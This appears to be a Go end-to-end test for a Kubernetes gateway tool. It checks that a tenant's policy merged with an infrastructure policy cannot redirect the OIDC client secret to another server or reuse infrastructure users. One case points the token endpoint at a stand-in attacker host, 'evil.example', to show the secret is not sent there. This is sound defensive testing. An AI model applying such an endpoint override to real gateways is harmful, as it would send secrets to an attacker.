package e2e

import (
	"strings"
	"testing"
)

// TestAttackByAMergeThatBorrowsASecret: a tenant's policy that merges with one of the infrastructure's gets its
// Secret neither sent to a server of the tenant's nor replaced by one of the tenant's own.
func TestAttackByAMergeThatBorrowsASecret(t *testing.T) {
	t.Parallel()
	const route = `
apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: {name: r, namespace: team}
spec:
  parentRefs: [{name: gw, namespace: default}]
  rules: [{backendRefs: [{group: gateway.envoyproxy.io, kind: Backend, name: b}]}]
`
	child := func(spec string) string {
		return strings.Replace(policyManifest("r", spec), "metadata: {name: r}", "metadata: {name: r, namespace: team}", 1)
	}
	parent := func(spec string) string { return onTarget("wide", "kind: Gateway, name: gw", spec) }
	const idp = "  oidc: {provider: {issuer: https://idp.example, authorizationEndpoint: 'https://idp.example/authorize', tokenEndpoint: 'https://idp.example/token'}, clientID: c, clientSecret: {name: oidc}}\n"
	stranger := strings.Replace(usersManifest, "alice:{SHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g=", "mallory:{SHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g=", 1)
	for name, c := range map[string]struct {
		parent, child, says string
		request             []string
	}{
		"S42 the client's secret, to another token endpoint": {idp, "  oidc: {provider: {tokenEndpoint: 'https://evil.example/token'}}", "no ReferenceGrant", nil},
		"S42 the client's secret, by another server":         {idp, "  oidc: {provider: {backendRefs: [{group: gateway.envoyproxy.io, kind: Backend, name: b, port: 9}]}}", "no ReferenceGrant", nil},
		"S42 users of its own, by a name that is the same":   {basicSpec, corsSpec, "denied with 401", []string{"-H", "Authorization: Basic bWFsbG9yeTpwYXNzd29yZA=="}},
		"the infrastructure's users":                         {basicSpec, corsSpec, "forwarded", []string{"-H", basicAlice}},
		"S42 the users, with a realm of its own":             {basicSpec, "  basicAuth: {realm: mine}", "denied with 503", []string{"-H", basicAlice}},
	} {
		for _, how := range []string{"StrategicMerge", "JSONMerge"} {
			file := writeFile(t, strings.Join([]string{
				openGateway(18080), usersManifest, oidcSecret, inNamespace("team", stranger), inNamespace("team", backendManifest("b", 9)), route,
				parent(c.parent), child("  mergeType: " + how + "\n" + c.child),
			}, "\n---\n"))
			stdout, _, _ := command(t, append([]string{"explain", "-f", file, "GET", "http://h:18080/"}, c.request...)...)
			if !strings.Contains(stdout, c.says) {
				t.Errorf("%s, %s: %s", name, how, stdout)
			}
			if !strings.Contains(c.child, "evil.example") {
				continue
			}
			if xds, _, _ := command(t, "translate", "-f", file); !strings.Contains(xds, "listeners:") || strings.Contains(xds, "evil.example") {
				t.Errorf("%s, %s: Envoy would send the secret there", name, how)
			}
		}
	}
}
